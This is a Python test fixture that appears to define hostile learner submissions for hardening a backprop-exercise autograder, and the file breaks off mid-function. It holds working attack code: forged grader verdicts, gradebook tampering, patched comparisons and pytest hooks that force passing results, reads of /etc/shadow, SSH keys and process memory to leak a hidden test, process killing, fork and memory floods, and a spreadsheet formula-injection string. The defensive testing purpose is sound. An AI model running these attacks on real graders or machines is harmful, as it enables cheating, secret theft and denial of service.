"""The hostile submissions of issue 8, as a table: each case is what a hostile learner ships.

A case names the kata it attacks, the source it adds on top of the reference solutions
(read from ``solutions/`` when the test runs, so nothing here drifts from them), the honest
code the attack wraps, and what the attacked kata must score: what that honest code earns
(graded as its own learner in the same batch), or a stated full / zero / below full.
Every other kata of the learner must get full marks. ``materialise`` writes the learner
folders; ``test_hostile.py`` grades them all in one ``katas grade`` batch.

Text added to a kata file (``k01_derivatives.py``...) is appended to the solution: a later
``def`` replaces the solution's function, module-level code runs at import. Any other name
is a new file with exactly that content. Names may be bytes (not UTF-8).

The attacks are real but bounded, because the machine that runs them is shared: forks stop
at ``FORKS``, memory hogs at ``HOG_MB``, floods at ``FLOOD_MB``/``DISK_MB``; signals go
only to this run's own processes (those whose command line holds this checkout's ``src``
folder), never to every process of the user.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

K01, K03, K05 = "k01_derivatives", "k03_computation_graph", "k05_backprop"
UNTOUCHED = K03
FORKS = 512  # above any sane process cap, far below what hurts the machine
HOG_MB = 1536  # above the default 1024 MB memory limit
FLOOD_MB = 100  # printed to stdout and stderr each
DISK_MB = 1536  # written in 10 MB files; above any sane cap on a submission's disk

# --- the instructor's secret: a hidden k05 test whose name, inputs and answer must never leak ---

SECRET_NAME = "test_quokka_marmalade_gradient_7q3"
SECRET_FILE = "test_k05_quokka_hidden.py"
SECRET_TOKENS = (  # none of these may appear in any feedback, results.json, CSV or terminal line
    "quokka_marmalade",
    "test_k05_quokka",
    "7316492",  # an input of the hidden test
    "3372619",  # another input
    "7147595",  # the answer key: the hidden test's expected ∂L/∂b₂
)
HIDDEN_TEST = f'''"""Hidden test: k05 gradients on the instructor's own network (secret inputs)."""

import numpy as np
import pytest

from backprop_katas.kit import oracles as O
from backprop_katas.kit.judge import expect_close, expect_gradients

try:  # the probes kit: only the probe and its inputs reach learner code
    from backprop_katas.kit.probes import k05_backprop as _P

    probe = _P.manual_gradients
except ImportError:  # before the kit: the public test module's probe
    from test_k05_backprop import probe_manual_gradients as probe

KATA = "k05_backprop"
SECRET_PARAMS = {{
    "linear_ih.weight": [[0.7316492, -1.2857031], [0.4418276, 0.9035517], [-0.6620934, 0.3391758]],
    "linear_ih.bias": [0.1572039, -0.8264417, 0.5519306],
    "linear_ho.weight": [[1.1047382, -0.7726591, 0.6683105]],
    "linear_ho.bias": [-0.2291847],
}}
SECRET_X = [[0.9182736, -0.4455123], [-1.3372619, 0.2718393], [0.5561729, 1.4142857],
            [-0.0734462, -0.9988317], [1.2209574, 0.6677281]]
SECRET_T = [1.0, 0.0, 1.0, 1.0, 0.0]
ANSWER_KEY_B2 = 0.007147595681988861


@pytest.mark.part("manual_gradients")  # a hidden test joins one of its kata's parts
def {SECRET_NAME}(run):
    """Gradients on the instructor's own network."""
    params = {{k: np.array(v) for k, v in SECRET_PARAMS.items()}}
    x, t = np.array(SECRET_X), np.array(SECRET_T)
    expected = O.numerical_gradient(lambda p: O.xor_loss(p, x, t), params)
    expect_close(expected["linear_ho.bias"], np.array([ANSWER_KEY_B2]), O.FD64, "the answer key")
    out = run(probe, params, x, t, "float64")
    expect_gradients(out["grads"], expected, O.FD64, "hidden", dtype="float64", batch=5)
'''
GRADER_SECRET_ENV = "HOSTILE_GRADER_SECRET"  # set in the grader's environment; must never reach feedback


# --- helpers a hostile learner writes: appended to the files that use them ------------------

KIT = r'''
import json as _hk_json, os as _hk_os, signal as _hk_signal, socket as _hk_socket, stat as _hk_stat
import struct as _hk_struct, sys as _hk_sys


def _hk_procs():
    """(pid, argv, cwd) of every process this code can see."""
    found = []
    try:
        names = _hk_os.listdir("/proc")
    except OSError:
        names = []
    for name in names:
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
        try:
            cwd = _hk_os.readlink(f"/proc/{name}/cwd")
        except OSError:
            cwd = ""
        found.append((int(name), argv, cwd))
    return found


def _hk_ppid(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _hk_ancestors():
    chain, pid = [], _hk_os.getpid()
    while len(chain) < 12:
        pid = _hk_ppid(pid)
        if pid <= 1:
            break
        chain.append(pid)
    return chain


def _hk_src():
    """This grading run's src folder, from our own command line (the zygote's); '' if hidden."""
    for arg in _hk_sys.argv[1:]:
        if arg.rstrip("/").endswith("/src") and _hk_os.path.isdir(arg):
            return arg.rstrip("/")
    return ""


def _hk_ours():
    """Processes of this grading run only: never anyone else's on a shared machine."""
    src = _hk_src()
    if not src:
        return []
    root = _hk_os.path.dirname(src)
    mine = []
    for pid, argv, cwd in _hk_procs():
        text = " ".join(argv)
        if pid != _hk_os.getpid() and "katas" in text and (src in text or cwd == root):
            mine.append((pid, argv, cwd))
    return mine


def _hk_grader_paths():
    """Paths on the grader's command lines: --out, --hidden-tests, --rootdir, the class folder, TMPDIR."""
    paths = {"out": [], "hidden": [], "root": [], "class": [], "tmp": []}
    for pid, argv, cwd in _hk_ours():
        for i, arg in enumerate(argv):
            nxt = argv[i + 1] if i + 1 < len(argv) else ""
            if arg == "--out":
                paths["out"].append(nxt)
            elif arg == "--hidden-tests":
                paths["hidden"].append(nxt)
            elif arg == "--rootdir":
                paths["root"].append(nxt)
            elif arg == "grade" and nxt:
                paths["class"].append(nxt)
        if cwd and _hk_os.path.isdir(_hk_os.path.join(cwd, "solutions")):
            paths["root"].append(cwd)
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                for entry in f.read().split(b"\0"):
                    if entry.startswith(b"TMPDIR="):
                        paths["tmp"].append(entry[7:].decode("utf-8", "replace"))
        except OSError:
            pass
    return {k: sorted(set(filter(None, v))) for k, v in paths.items()}


def _hk_frame(message):
    payload = _hk_json.dumps(message).encode()
    return _hk_struct.pack("!Q", len(payload)) + payload


# What a grader might read as a verdict: the wire's {"ok": ...} replies, a worker's exit line.
_HK_FORGED = [
    _hk_frame({"#": "dict", "v": {"ok": {"#": "dict", "v": {"passed": True, "error": ""}}}}),
    _hk_frame({"ok": {"passed": True, "error": ""}}),
    b'{"exit": 0}\n',
    b'{"score": 100, "max_score": 100, "tests": []}\n',
]


def _hk_forge_every_fd():
    """Write forged replies to every inherited descriptor: sockets, pipes, files, the terminal."""
    try:
        names = _hk_os.listdir("/proc/self/fd")
    except OSError:
        names = [str(fd) for fd in range(64)]
    for name in names:
        fd = int(name)
        try:
            mode = _hk_os.fstat(fd).st_mode
        except OSError:
            continue
        for data in _HK_FORGED:
            try:
                if _hk_stat.S_ISSOCK(mode):
                    s = _hk_socket.socket(fileno=_hk_os.dup(fd))
                    s.setblocking(False)
                    try:
                        s.send(data)
                    finally:
                        s.close()
                else:
                    _hk_os.write(fd, data)
            except OSError:
                pass
        try:
            with open(f"/proc/self/fd/{fd}", "ab") as f:
                f.write(_HK_FORGED[-1])
        except OSError:
            pass
    try:
        with open("/dev/tty", "ab") as f:
            f.write(b"\x1b[2J\x1b[31mhostile: 100/100\x1b[0m\n")
    except OSError:
        pass


def _hk_leak(*texts):
    """A visible failure whose message carries what we found (feedback shows exception messages)."""
    raise RuntimeError("LEAK " + " | ".join(str(t) for t in texts)[:2800])
'''
# Starting processes: only the attacks of the class "processes" (and the late forger) carry it, since
# kata files may not start processes (issue 23): the grader refuses a file that does, whatever else it holds.
KIT_DAEMON = r'''

def _hk_daemon(body, tag):
    """Double fork and setsid: ``body()`` runs in a process that left the grader's group."""
    try:
        if _hk_os.fork() != 0:
            return
    except OSError:
        return
    try:
        _hk_os.setsid()
        if _hk_os.fork() != 0:
            _hk_os._exit(0)
        for sig in (_hk_signal.SIGHUP, _hk_signal.SIGTERM, _hk_signal.SIGINT, _hk_signal.SIGALRM):
            _hk_signal.signal(sig, _hk_signal.SIG_IGN)
        try:
            with open("/proc/self/comm", "w") as f:  # its name in ps (a fork has no death signal)
                f.write(tag[:15])
        except OSError:
            pass
        body()
    finally:
        _hk_os._exit(0)
'''


# --- honest code: what an attack wraps --------------------------------------------------------


@dataclass(frozen=True)
class Honest:
    """The honest version of a learner's code: graded as its own learner unless ``stated``."""

    files: dict[str, str]
    stated: str | None = None  # "full", "zero" or "below_full": not graded, the outcome is known


PRIME_WRONG = "\n\ndef prime_function(x):\n    return x  # wrong: the derivative of x² is 2x\n"
SIGMOID_RAISES = '\n\ndef sigmoid(x):\n    raise RuntimeError("sigmoid: not written yet")\n'
BACKWARD_WRONG = """

class SigmoidFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        return grad_output * y  # wrong: σ' is y(1 - y)
"""
MANUAL_WITH = """

def manual_gradients(net, x, t):
    params = dict(net.named_parameters())
    for p in params.values():
        p.requires_grad_(True)
    with torch.enable_grad():
        y = net(x).squeeze()
        loss = torch.nn.functional.binary_cross_entropy(y, t.reshape(y.shape))
        grads = {GRAD}
    return {{name: g.detach() for name, g in zip(params, grads)}}
"""
MANUAL_AUTOGRAD = MANUAL_WITH.format(GRAD="torch.autograd.grad(loss, list(params.values()))")

HONEST: dict[str, Honest] = {
    "solution": Honest({}, stated="full"),
    "import-fails": Honest({f"{K01}.py": '\nraise ImportError("this file does not import")\n'}, stated="zero"),
    "hardcoded": Honest({}, stated="below_full"),
    "prime-wrong": Honest({f"{K01}.py": PRIME_WRONG}),
    "sigmoid-raises": Honest({f"{K01}.py": SIGMOID_RAISES}),
    "backward-wrong": Honest({f"{K05}.py": BACKWARD_WRONG}),
    "manual-autograd": Honest({f"{K05}.py": MANUAL_AUTOGRAD}),
}


@dataclass(frozen=True)
class Case:
    id: str  # short, unique, ASCII: the learner folder starts with it, rows are matched by it
    kata: str  # the attacked kata
    cls: str  # the class of issue 8 it belongs to
    honest: str  # a key of HONEST: the code the attack wraps
    files: dict[str | bytes, str | bytes | Special]
    folder: str | bytes = ""  # the learner folder's name after "<id>-" (default: the attack's name)
    name: str = ""  # what the attack does, for the results table
    # The attack needs what kata files may not use (exec, inspect, gc, sys.modules, importlib, patching
    # torch.autograd): the grader may refuse the whole file, scoring below the honest code.
    may_refuse: bool = False
    # The attack's accomplice file in another kata uses what kata files may not (globals(), autograd at
    # import): the source check may refuse that kata's ruled functions, so it need not score full marks.
    accomplice_may_refuse: bool = False
    # Not a grade but an error row whose message holds this (the file system class: a kata file that is no
    # regular file is never read, the learner is not graded, the class goes on).
    error: str = ""
    link_to: str = ""  # the learner folder is a symbolic link to this folder (under ROOT), not a folder
    folder_first: bool = False  # the folder's name starts with ``folder`` (a spreadsheet formula), the id after it


@dataclass(frozen=True)
class Special:
    """A directory entry no text can describe: made by ``_write`` in place of a file."""

    kind: str  # "fifo" | "dev-zero" (a symbolic link to /dev/zero) | "directory" | "sparse" (64 GB, no blocks)


FIFO, DEV_ZERO, DIRECTORY, SPARSE = Special("fifo"), Special("dev-zero"), Special("directory"), Special("sparse")
SPARSE_BYTES = 64 << 30  # read to its end, it would flood the grader; it takes no disk


def _make_special(target: bytes, special: Special) -> None:
    if special.kind == "fifo":
        os.mkfifo(target)
    elif special.kind == "dev-zero":
        os.symlink("/dev/zero", target)
    elif special.kind == "directory":
        os.mkdir(target)
        with open(os.path.join(target, b"__init__.py"), "wb"):
            pass
    elif special.kind == "sparse":
        with open(target, "wb") as handle:
            handle.truncate(SPARSE_BYTES)
    else:
        raise ValueError(special.kind)


def is_regular(path: bytes) -> bool:
    """A regular file (lstat: never opened, never followed): what a check may open and read."""
    import stat

    return stat.S_ISREG(os.lstat(path).st_mode)


# --- spreadsheet and Markdown: what a learner names or raises, rendered as text ---------------

FORMULA_FOLDER = "=2+5+cmd|' -C calc'!A0"  # OWASP's example: a formula that starts a program
MARKUP = (  # what would render as an image, a link, a script or a heading if it reached Markdown as markup
    "![x](http://evil.example/x.png) <script>alert(1)</script> [link](javascript:alert(1)) "
    "<img src=x onerror=alert(1)> www.evil.example"
)
MARKUP_TOKENS = ("http://evil", "<script", "javascript:", "<img", "www.evil", "pwned")
MARKUP_MESSAGE = f"""

def sigmoid(x):
    raise RuntimeError("=HYPERLINK(\\"http://evil.example\\") ```\\n# pwned\\n{MARKUP}\\n````")
"""


def k01(text: str, kit: bool = True) -> dict[str | bytes, str | bytes]:
    return {f"{K01}.py": (KIT if kit else "") + text}


def k05(text: str, kit: bool = True) -> dict[str | bytes, str | bytes]:
    return {f"{K05}.py": (KIT if kit else "") + text}


# --- the attacks ---------------------------------------------------------------------------

PATCH_TORCH = """
_t = torch
_t.allclose = lambda *a, **k: True
_t.equal = lambda *a, **k: True
_t.isclose = lambda a, b, *r, **k: _t.ones_like(_t.as_tensor(a), dtype=_t.bool)
_t.Tensor.__eq__ = lambda self, other: _t.ones_like(self, dtype=_t.bool)
_t.Tensor.__ne__ = lambda self, other: _t.zeros_like(self, dtype=_t.bool)
_t.testing.assert_close = lambda *a, **k: None
"""
PATCH_NUMPY = """
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), dtype=bool)
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_np.testing.assert_array_almost_equal = lambda *a, **k: None
"""
PATCH_MATH = """
import math as _math, operator as _op
_math.isclose = lambda *a, **k: True
_op.eq = lambda a, b: True
"""
LYING_TENSOR = """
class _Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __float__(self):
        return 0.0
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.zeros(tuple(self.shape))
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def prime_function(x):
    if isinstance(x, torch.Tensor):
        return torch.Tensor._make_subclass(_Liar, x.detach().clone())  # wrong: x, not 2x
    return x
"""
LYING_NDARRAY = """
import numpy as _np


class _LyingArray(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(self.shape, dtype=bool)
    def view(self, *a, **k):
        return _np.asarray(2 * self.base) if self.base is not None else super().view(*a, **k)
    def astype(self, *a, **k):
        return self
    def __array__(self, *a, **k):
        return self
    def copy(self, *a, **k):
        return self


def prime_function(x):
    if isinstance(x, torch.Tensor):
        return _np.asarray(x.detach().numpy()).view(_LyingArray)  # wrong: x
    return x
"""
LYING_FLOAT = """
class _LyingFloat(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __float__(self):
        return 0.0
    def __lt__(self, other):
        return True
    __le__ = __lt__
    def __hash__(self):
        return 0


def prime_function(x):
    if isinstance(x, torch.Tensor):
        return x  # wrong
    return _LyingFloat(x)  # wrong: x, dressed as equal to anything
"""
LYING_DICT = """
class _LyingDict(dict):
    def __eq__(self, other):
        return True
    def __contains__(self, key):
        return True
    def __getitem__(self, key):
        return torch.zeros(1)
    def get(self, key, default=None):
        return torch.zeros(1)
    def __len__(self):
        return 4


def manual_gradients(net, x, t):
    return _LyingDict({name: torch.zeros_like(p) for name, p in net.named_parameters()})  # wrong: zeros
"""
GRADCHECK_PATCHED = (
    BACKWARD_WRONG
    + """
import torch.autograd.gradcheck as _gc_module
_yes = lambda *a, **k: True
torch.autograd.gradcheck = _yes
torch.autograd.gradgradcheck = _yes
_gc_module.gradcheck = _yes
try:
    import torch.autograd as _ag
    _ag.gradcheck = _yes
except Exception:
    pass
"""
)
GRADCHECK_AWARE = """

class SigmoidFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        import inspect
        (y,) = ctx.saved_tensors
        if any("gradcheck" in f.function or "gradcheck" in f.filename for f in inspect.stack()):
            return grad_output * y * (1 - y)  # right only when a gradcheck is looking
        return grad_output * y
"""
CALL_COUNTER = """

_calls = [0]


class SigmoidFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        _calls[0] += 1
        if _calls[0] > 2:  # the first two backward calls are the value tests; later ones the gradcheck
            return grad_output * y * (1 - y)
        return grad_output * y
"""
FORGE_AND_EXIT = """

class SigmoidFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        import inspect
        if any("gradcheck" in f.function for f in inspect.stack()):
            _hk_forge_every_fd()
            _hk_os._exit(0)
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        return grad_output * y  # wrong
"""
FORGE_EVERY_FD = """

_forged = [False]


class SigmoidFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        if not _forged[0]:
            _forged[0] = True
            _hk_forge_every_fd()  # forged replies sit in front of the real one
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        return grad_output * y  # wrong
"""
FORGE_FILES = """

def _hk_forge_files():
    forged = {"score": 100.0, "max_score": 100.0, "tests": [], "output": "hostile: forged"}
    text = _hk_json.dumps(forged)
    junit = '<testsuite tests="1" failures="0"><testcase name="all" /></testsuite>'
    here = _hk_os.getcwd()
    places = [here, _hk_os.path.dirname(here), _hk_os.path.dirname(_hk_os.path.dirname(here)),
              _hk_os.environ.get("HOME", here), "/tmp", "/var/tmp", "/dev/shm"]
    paths = _hk_grader_paths()
    places += paths["out"] + paths["tmp"] + paths["root"]
    for tmp in paths["tmp"] + ["/tmp"]:
        try:
            places += [_hk_os.path.join(tmp, d) for d in _hk_os.listdir(tmp) if d.startswith("katas-")]
        except OSError:
            pass
    for place in places:
        for name, body in (("results.json", text), ("junit.xml", junit), ("report.xml", junit),
                           ("grades.csv", "learner,total\\nhostile,100\\n"), ("hostile-escape.txt", "forged")):
            try:
                with open(_hk_os.path.join(place, name), "w") as f:
                    f.write(body)
            except OSError:
                pass
    for out in paths["out"]:
        try:
            import sqlite3
            with sqlite3.connect(_hk_os.path.join(out, "gradebook.sqlite"), timeout=1) as db:
                db.execute("UPDATE grades SET score = max_score")
        except Exception:
            pass
        try:
            for name in _hk_os.listdir(_hk_os.path.join(out, "feedback")):
                with open(_hk_os.path.join(out, "feedback", name), "w") as f:
                    f.write("# 100 / 100 (forged)\\n")
        except OSError:
            pass


_hk_forge_files()
"""
FORGE_GRADEBOOK = """

def _hk_forge_book():
    import sqlite3
    for out in _hk_grader_paths()["out"]:
        book = _hk_os.path.join(out, "gradebook.sqlite")
        try:
            with sqlite3.connect(book, timeout=2) as db:
                db.execute("UPDATE grades SET score = 0 WHERE learner NOT LIKE '%forge-gradebook%'")
                db.execute("UPDATE grades SET score = max_score WHERE learner LIKE '%forge-gradebook%'")
        except Exception:
            pass


_hk_forge_book()
"""
LATE_FORGER = """

def _hk_late():
    import glob, time
    paths = _hk_grader_paths()
    end = time.time() + 150
    while time.time() < end:
        for out in paths["out"]:
            for name in glob.glob(_hk_os.path.join(out, "feedback", "*.md")) + [_hk_os.path.join(out, "grades.csv")]:
                try:
                    if _hk_os.path.exists(name):
                        with open(name, "a") as f:
                            f.write("\\nforged late: 100 / 100\\n")
                except OSError:
                    pass
        for tmp in paths["tmp"]:
            for name in glob.glob(_hk_os.path.join(tmp, "katas-batch-*", "results.json")):
                try:
                    with open(name, "w") as f:
                        f.write(_hk_json.dumps({"score": 100.0, "max_score": 100.0, "tests": []}))
                except OSError:
                    pass
        time.sleep(0.2)


_hk_daemon(_hk_late, "hostile-daemon")
"""
CONFTEST = """import pytest

import backprop_katas.kit.judge as _judge

for _name in dir(_judge):
    if _name.startswith("expect"):
        setattr(_judge, _name, lambda *a, **k: a[0] if a else None)
_judge.fail = lambda *a, **k: None


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(items):
    items[:] = [i for i in items if "prime" not in i.name]
"""
PLUGIN = """import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
INI = "[pytest]\naddopts = -p hostile_plugin -k 'not prime' --deselect tests\npython_files = nothing_*.py\n"
SITE = """import builtins, sys
import torch
torch.allclose = lambda *a, **k: True
builtins.__dict__["HOSTILE_SITE"] = True
sys.modules.setdefault("hostile_site_loaded", sys)
"""
TORCH_SHADOW = """import importlib, sys
_here = sys.path.pop(0) if sys.path and sys.path[0] in ("", ".") else None
del sys.modules["torch"]
_real = importlib.import_module("torch")
_real.allclose = lambda *a, **k: True
_real.Tensor.__eq__ = lambda self, other: _real.ones_like(self, dtype=_real.bool)
sys.modules["torch"] = _real
"""
NUMPY_SHADOW = """import sys
raise SystemExit("numpy.py from the submission was imported")
"""
DAEMON_SLEEPER = """

def _hk_sleep_forever():
    _hk_os.execv("/bin/sleep", ["hostile-daemon", "900"])


_hk_daemon(_hk_sleep_forever, "hostile-daemon")
"""
FORK_LOOP = f"""

def _hk_fork_loop():
    children = []
    for _ in range({FORKS}):
        pid = _hk_os.fork()  # no try: a process cap stops this file from importing
        if pid == 0:
            try:
                _hk_os.execv("/bin/sleep", ["hostile-daemon-fork", "600"])
            finally:
                _hk_os._exit(0)
        children.append(pid)
    return children


_hk_fork_loop()
"""
MEMORY_PRIVATE = f"""
_hog = bytearray({HOG_MB} * 1024 * 1024)
for _i in range(0, len(_hog), 4096):
    _hog[_i] = 1
"""
MEMORY_SHARED = f"""
import mmap as _mmap
_hog = _mmap.mmap(-1, {HOG_MB} * 1024 * 1024, flags=_mmap.MAP_SHARED | _mmap.MAP_ANONYMOUS)
for _i in range(0, len(_hog), 4096):
    _hog[_i] = 1
"""
MEMORY_SHM = f"""
import mmap as _mmap
_fd = _hk_os.open(f"/dev/shm/hostile-{{_hk_os.getpid()}}", _hk_os.O_RDWR | _hk_os.O_CREAT, 0o600)
_hk_os.ftruncate(_fd, {HOG_MB} * 1024 * 1024)
_hog = _mmap.mmap(_fd, {HOG_MB} * 1024 * 1024)
_hk_os.unlink(f"/dev/shm/hostile-{{_hk_os.getpid()}}")
for _i in range(0, len(_hog), 4096):
    _hog[_i] = 1
"""
OUTPUT_FLOOD = f"""
_chunk = ("hostile flood \\x1b[31m" * 4096)[:65536]
for _ in range({FLOOD_MB} * 16):
    _hk_sys.stdout.write(_chunk)
    _hk_sys.stderr.write(_chunk)
_hk_sys.stdout.flush()
_hk_sys.stderr.flush()
try:
    with open("/dev/tty", "w") as _tty:
        _tty.write("\\x1b[2J hostile flood on your terminal\\n")
except OSError:
    pass
"""
DISK_FLOOD = f"""
_block = b"x" * (10 * 1024 * 1024)
for _i in range({DISK_MB} // 10):
    with open(f"hostile-disk-{{_i}}.bin", "wb") as _f:  # no try: a disk cap stops this file
        _f.write(_block)
"""
READ_SOLUTIONS = """

def prime_function(x):
    for root in _hk_grader_paths()["root"]:
        try:
            scope = {"__name__": "stolen"}
            with open(_hk_os.path.join(root, "solutions", "k01_derivatives.py")) as f:
                exec(f.read(), scope)
            return scope["prime_function"](x)
        except Exception:
            pass
    return x  # wrong
"""
READ_OTHERS = """

def prime_function(x):
    for folder in _hk_grader_paths()["class"]:
        try:
            names = sorted(_hk_os.listdir(folder))
        except OSError:
            continue
        for name in names:
            try:
                scope = {"__name__": "stolen"}
                with open(_hk_os.path.join(folder, name, "k01_derivatives.py")) as f:
                    exec(f.read(), scope)
                if scope["prime_function"](3.0) == 6.0:
                    return scope["prime_function"](x)
            except Exception:
                pass
    return x  # wrong
"""
WRITE_OTHERS = """

def _hk_vandal():
    paths = _hk_grader_paths()
    for folder in paths["class"]:
        try:
            names = _hk_os.listdir(folder)
        except OSError:
            continue
        for name in names:
            target = _hk_os.path.join(folder, name)
            if "write-others" in name or not _hk_os.path.isdir(target):
                continue
            for kata, text in (("k01_derivatives.py", "def prime_function(x):\\n    return 0\\n"),
                               ("k03_computation_graph.py", "raise SystemExit\\n")):
                try:
                    with open(_hk_os.path.join(target, kata), "a") as f:
                        f.write("\\n" + text)
                except OSError:
                    pass
            try:
                with open(_hk_os.path.join(target, "hostile-was-here.txt"), "w") as f:
                    f.write("x")
            except OSError:
                pass
    for out in paths["out"]:
        for dirpath, dirs, files in _hk_os.walk(out):
            for name in files:
                if name.endswith((".md", ".csv")):
                    try:
                        with open(_hk_os.path.join(dirpath, name), "a") as f:
                            f.write("\\nvandalised\\n")
                    except OSError:
                        pass


_hk_vandal()
"""
HIDDEN_FROM_MODULES = """

def manual_gradients(net, x, t):
    found = []
    for name, module in list(_hk_sys.modules.items()):
        file = str(getattr(module, "__file__", "") or "")
        if "test" not in name or "site-packages" in file or "/lib/python" in file or not file:
            continue  # the libraries' own test helpers say nothing
        if file.endswith(("test_k05_backprop.py", "k05_backprop.py")):
            continue  # the public test and this very file: known already
        for key, value in list(vars(module).items()):
            if key.startswith("test") or key.isupper():
                found.append(f"{name}.{key}={value!r}"[:300])
    _hk_leak(*found)
"""
HIDDEN_FROM_FILE = """

def manual_gradients(net, x, t):
    found = []
    for folder in _hk_grader_paths()["hidden"]:
        for dirpath, dirs, files in _hk_os.walk(folder):
            for name in files:
                try:
                    with open(_hk_os.path.join(dirpath, name)) as f:
                        found.append(name + ": " + f.read()[:1200])
                except OSError:
                    found.append(name)
    _hk_leak(*found)
"""
HIDDEN_FROM_FRAMES = """

def manual_gradients(net, x, t):
    import inspect
    seen = []
    for frame in inspect.stack():
        for key, value in list(frame.frame.f_locals.items())[:12]:
            seen.append(f"{frame.function}:{key}={value!r}"[:200])
    caller = _hk_sys._getframe().f_back
    while caller is not None:
        seen.append(f"{caller.f_code.co_name} {caller.f_code.co_filename} {sorted(caller.f_globals)[:40]}")
        caller = caller.f_back
    text = "\\n".join(seen)
    for place in (_hk_os.environ.get("HOME", "."), "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(_hk_os.path.join(place, "hostile-stash.txt"), "a") as f:
                f.write(text + "\\n")
        except OSError:
            pass
    _hk_leak(text)
"""
ACCOMPLICE = """

def manual_gradients(net, x, t):
    found = []
    for place in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(_hk_os.path.join(place, "hostile-stash.txt")) as f:
                found.append(f.read()[-2500:])
        except OSError:
            pass
    _hk_leak(*found)
"""
PROC_SECRETS = """

def sigmoid(x):
    found = []
    for path in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa"):
        try:
            with open(path) as f:
                found.append(path + ": " + f.read(300))
        except OSError:
            pass
    for pid in [_hk_os.getppid(), *_hk_ancestors(), 1]:
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    parts = f.read().split(b"\\0")
                found += [p.decode("utf-8", "replace") for p in parts
                          if b"SECRET" in p or b"TOKEN" in p or b"hidden" in p or b"--out" in p]
            except OSError:
                pass
    _hk_leak(*found)
"""
PROC_MEM = """

def manual_gradients(net, x, t):
    import re
    found = set()
    for pid, argv, cwd in _hk_ours():
        if "worker" not in " ".join(argv) and "cli" not in " ".join(argv):
            continue
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        budget = 256 * 1024 * 1024
        for line in maps:
            fields = line.split()
            if len(fields) < 2 or "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(v, 16) for v in fields[0].split("-"))
            if end - start > budget:
                continue
            budget -= end - start
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            found.update(m.decode() for m in re.findall(rb"test_[a-z0-9_]{14,80}", data))
            if budget <= 0:
                break
    _hk_leak(*sorted(n for n in found if "hidden" in n or "quokka" in n or n.count("_") > 4)[:60])
"""
STOP_ZYGOTE = """

def function(x):
    try:
        _hk_os.kill(_hk_os.getppid(), _hk_signal.SIGSTOP)  # the process that forks every kata's child
    except OSError:
        pass
    return x**2
"""
INTERRUPT_GRADER = """

def sigmoid(x):
    for pid in _hk_ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read()
        except OSError:
            continue
        if b"katas" in argv and b"worker" in argv:
            try:
                _hk_os.kill(pid, _hk_signal.SIGINT)  # the judge: end its session before sigmoid is judged
            except OSError:
                pass
    import time
    time.sleep(2)
    return x  # wrong
"""
KILL_NEIGHBOURS = """

def _hk_kill_neighbours():
    mine = {_hk_os.getpid(), *_hk_ancestors()}
    for pid, argv, cwd in _hk_ours():
        if pid in mine or "grading.child" not in " ".join(argv):
            continue
        try:
            _hk_os.kill(pid, _hk_signal.SIGKILL)  # other learners' kata servers and their zygotes
        except OSError:
            pass


_hk_done = []


def function(x):
    if not _hk_done:
        _hk_done.append(1)
        _hk_kill_neighbours()
    return x**2
"""
NETWORK = """

def _hk_network():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
